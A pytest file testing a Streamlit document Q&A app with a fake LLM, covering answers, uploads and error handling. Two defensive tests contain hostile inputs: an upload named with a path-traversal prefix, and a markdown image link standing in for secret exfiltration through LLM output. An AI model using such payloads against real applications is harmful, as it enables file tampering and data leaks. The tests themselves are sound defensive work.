"""streamlit_app.py through Streamlit's AppTest: real store, real embedder, loopback LLM."""

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from rag.display import literal
from tests.conftest import ROOT, SAMPLE_DOCS

APP = str(ROOT / "streamlit_app.py")


@pytest.fixture
def app(settings, monkeypatch):
    st.cache_resource.clear()
    monkeypatch.chdir(ROOT)
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    assert not at.exception
    return at


def test_empty_state_explains_what_to_do_first(app):
    assert any("Ask a question about your documents" in i.value for i in app.info)
    assert any("offline, extractive" in m.value for m in app.sidebar.markdown)


def _ask_about_amazon(settings, minilm, monkeypatch) -> AppTest:
    """Ingest the Amazon sample, start the app fresh and ask one question."""
    from ingest import ingest_paths
    from rag.store import open_store

    amazon = SAMPLE_DOCS / "amazon-rainforest-wikipedia.pdf"
    ingest_paths(
        [amazon], open_store(settings, minilm), minilm, settings.folio_chunk_tokens, settings.folio_chunk_overlap
    )
    st.cache_resource.clear()
    monkeypatch.chdir(ROOT)
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    at.chat_input[0].set_value("What percentage of the Amazon rainforest is in Brazil?").run()
    assert not at.exception
    return at


def test_ask_gives_an_answer_with_cited_sources(settings, minilm, monkeypatch):
    at = _ask_about_amazon(settings, minilm, monkeypatch)
    assistant = at.chat_message[1]
    assert "60%" in "".join(m.value for m in assistant.markdown)
    [first] = [e for e in at.expander if e.label.endswith(f"] {literal('amazon-rainforest-wikipedia.pdf')}, p. 1")]
    kinds = [type(child).__name__ for child in first.children.values()]
    assert kinds == ["Markdown", "Image"]  # the source text, then the rendered page
    highlighted = "<mark>The majority of the forest is contained within Brazil, with 60% of the rainforest"
    assert highlighted in first.markdown[0].value


def test_llm_failure_is_a_message_not_a_traceback(settings, minilm, monkeypatch, fake_llm):
    for _ in range(5):
        fake_llm.then("status", code=401)
    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-ui-key")
    at = _ask_about_amazon(settings, minilm, monkeypatch)
    assert any(literal("rejected the API key (401)") in e.value for e in at.error)
    assert "sk-secret-ui-key" not in str([e.value for e in at.error])


def test_upload_ingests_a_pdf_and_lists_it_then_delete_removes_it(app, settings):
    data = (SAMPLE_DOCS / "amazon-rainforest-wikipedia.pdf").read_bytes()
    app.file_uploader[0].upload("../../evil/amazon.pdf", data, "application/pdf").run()
    [ingest_button] = [b for b in app.sidebar.button if b.label == "Ingest uploaded files"]
    ingest_button.click().run()
    assert not app.exception
    [ingested] = [s.value for s in app.success if f"{literal('amazon.pdf')}: ingested 5 pages, " in s.value]
    chunks = ingested.split("5 pages, ")[1].split(" chunks")[0]
    assert (settings.uploads_dir / "amazon.pdf").exists()
    assert not (settings.folio_data_dir.parent / "evil").exists()
    assert any(f"**{literal('amazon.pdf')}**" in m.value for m in app.sidebar.markdown)

    app.sidebar.button(key="re-amazon.pdf").click().run()
    assert any(f"{literal('amazon.pdf')}: re-indexed 5 pages, {chunks} chunks" in s.value for s in app.success)

    app.sidebar.button(key="rm-amazon.pdf").click().run()
    assert not any(f"**{literal('amazon.pdf')}**" in m.value for m in app.sidebar.markdown)


def test_a_bad_upload_is_a_clear_message(app):
    app.file_uploader[0].upload("fake.pdf", b"<html>not a pdf</html>", "application/pdf").run()
    [ingest_button] = [b for b in app.sidebar.button if b.label == "Ingest uploaded files"]
    ingest_button.click().run()
    assert not app.exception
    assert [e.value for e in app.error] == [f"{literal('fake.pdf')}: {literal('not a PDF (no %PDF- header)')}"]


def test_after_an_llm_failure_the_history_stays_and_the_next_question_works(settings, minilm, monkeypatch, fake_llm):
    for _ in range(4):
        fake_llm.then("status", code=500)
    fake_llm.then("stream", tokens=["Brazil has 60% [1]."])  # condensed follow-up is not needed: no history
    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
    at = _ask_about_amazon(settings, minilm, monkeypatch)
    assert any(literal("failed with HTTP 500") in e.value for e in at.error)
    at.chat_input[0].set_value("And how much is in Peru?").run()
    assert not at.exception
    roles = [m.name for m in at.chat_message]
    assert roles == ["user", "assistant", "user", "assistant"]
    assert "Brazil has 60% [1]." in "".join(m.value for m in at.chat_message[3].markdown)


def test_a_generated_image_or_link_is_shown_as_text_never_fetched(settings, minilm, monkeypatch, fake_llm):
    exfiltration = "![x](http://127.0.0.1:9/llm-exfil?secret=4417)"
    fake_llm.then("stream", tokens=["Brazil has 60% [1]. ", exfiltration[:9], exfiltration[9:], " [see](http://e.x/)"])
    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
    at = _ask_about_amazon(settings, minilm, monkeypatch)
    shown = "".join(m.value for m in at.chat_message[1].markdown)
    assert "Brazil has 60% [1]." in shown and "(image: x)" in shown
    assert "](" not in shown and "http://" not in shown  # no image, no link, no autolink left
